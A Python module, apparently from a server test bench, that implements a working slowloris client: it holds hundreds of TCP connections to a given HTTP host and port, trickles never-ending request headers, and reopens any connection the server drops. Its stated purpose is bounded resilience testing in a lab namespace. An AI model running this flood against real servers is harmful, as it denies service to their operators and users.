"""``python -m bench.http.slowloris HOST PORT``: a bounded slow-connection flood.

Holds ``--connections`` TCP connections to an HTTP server, each sending a request
head that never ends, one byte per ``--interval`` seconds (a slowloris client).
A connection the server closes (or answers: a 503, say) is opened again at the
next tick, so the pressure stays. After ``--seconds`` (or SIGTERM) it closes
everything and prints one JSON line of counts (after a line ``{"ready": N}``
once every connection was tried). Bounded in sockets, in rate (one
connect and one byte per connection per tick) and in time. Standard library
only: it runs inside a lab namespace (the bench's, tests/real/test_http_flood.py).
"""

from __future__ import annotations

import argparse
import json
import resource
import selectors
import signal
import socket
import sys
import time

# A request line and headers, then header lines for ever: never the blank line.
PREFIX = b"GET /boot/slow HTTP/1.1\r\nHost: rack\r\nUser-Agent: slowloris\r\n"
FILLER = b"X-Slow: a\r\n"
CONNECT_TIMEOUT = 2.0


def head_byte(i: int) -> bytes:
    if i < len(PREFIX):
        return PREFIX[i : i + 1]
    j = (i - len(PREFIX)) % len(FILLER)
    return FILLER[j : j + 1]


class Flood:
    def __init__(self, host: str, port: int, connections: int) -> None:
        self.address = (host, port)
        self.slots: list[socket.socket | None] = [None] * connections
        self.sent = [0] * connections  # bytes of its head each slot's connection sent
        self.selector = selectors.DefaultSelector()
        self.counts = {"opened": 0, "connect_failed": 0, "closed_by_server": 0,
                       "answered_503": 0, "answered_other": 0, "max_open": 0}  # fmt: skip

    def open_count(self) -> int:
        return sum(1 for s in self.slots if s is not None)

    def tick(self) -> None:
        """Open what is closed, and send every open connection one more byte."""
        for i, sock in enumerate(self.slots):
            if sock is None:
                self._open(i)
            else:
                self._send(i, sock)
        self.counts["max_open"] = max(self.counts["max_open"], self.open_count())

    def _open(self, i: int) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(CONNECT_TIMEOUT)
        try:
            sock.connect(self.address)
            sock.setblocking(False)
            sock.send(head_byte(0))
        except OSError:
            self.counts["connect_failed"] += 1
            sock.close()
            return
        self.counts["opened"] += 1
        self.slots[i], self.sent[i] = sock, 1
        self.selector.register(sock, selectors.EVENT_READ, i)

    def _send(self, i: int, sock: socket.socket) -> None:
        try:
            self.sent[i] += sock.send(head_byte(self.sent[i]))
        except BlockingIOError:
            pass
        except OSError:
            self._close(i, b"")

    def _close(self, i: int, answer: bytes) -> None:
        sock = self.slots[i]
        assert sock is not None
        self.selector.unregister(sock)
        sock.close()
        self.slots[i] = None
        self.counts["closed_by_server"] += 1
        if answer.startswith(b"HTTP/1.1 503"):
            self.counts["answered_503"] += 1
        elif answer:
            self.counts["answered_other"] += 1

    def wait(self, until: float) -> None:
        """Until ``until`` (monotonic): close what the server closes or answers."""
        while (left := until - time.monotonic()) > 0:
            for key, _ in self.selector.select(left):
                i = key.data
                try:
                    answer = key.fileobj.recv(4096)  # type: ignore[union-attr]
                except BlockingIOError:
                    continue
                except OSError:
                    answer = b""
                self._close(i, answer)

    def close(self) -> None:
        for i, sock in enumerate(self.slots):
            if sock is not None:
                self.selector.unregister(sock)
                sock.close()
                self.slots[i] = None
        self.selector.close()


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(
        prog="python -m bench.http.slowloris", description=__doc__.splitlines()[0]
    )
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--connections", type=int, default=600, help="connections held (600)")
    p.add_argument("--interval", type=float, default=1.0, help="seconds between bytes (1)")
    p.add_argument("--seconds", type=float, default=60.0, help="how long in all (60)")
    args = p.parse_args(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    stopping = False

    def stop(signum, frame) -> None:
        nonlocal stopping
        stopping = True

    signal.signal(signal.SIGTERM, stop)
    flood = Flood(args.host, args.port, args.connections)
    started = time.monotonic()
    end = started + args.seconds
    try:
        while not stopping and time.monotonic() < end:
            next_tick = time.monotonic() + args.interval
            flood.tick()
            if flood.counts["opened"] + flood.counts["connect_failed"] == args.connections:
                print(json.dumps({"ready": flood.counts["opened"]}), flush=True)  # first tick
            flood.wait(min(next_tick, end))
    finally:
        counts = {**flood.counts, "seconds": round(time.monotonic() - started, 1)}
        flood.close()
        print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
